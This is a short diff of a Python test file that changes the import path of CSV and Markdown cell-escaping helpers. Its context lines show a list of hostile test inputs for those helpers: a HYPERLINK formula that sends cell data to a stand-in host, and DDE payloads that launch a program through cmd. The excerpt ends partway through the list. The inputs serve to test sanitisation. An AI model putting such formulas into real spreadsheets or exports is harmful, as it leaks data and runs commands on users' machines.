@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 
 from alignkit.collect import collect
-from alignkit.textsafe import BIDI, csv_cell, md_cell, no_bidi
+from alignkit.contract.textsafe import BIDI, csv_cell, md_cell, no_bidi
 from tests.fixtures.synthetic_study import write_study
 
 HOSTILE = ("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
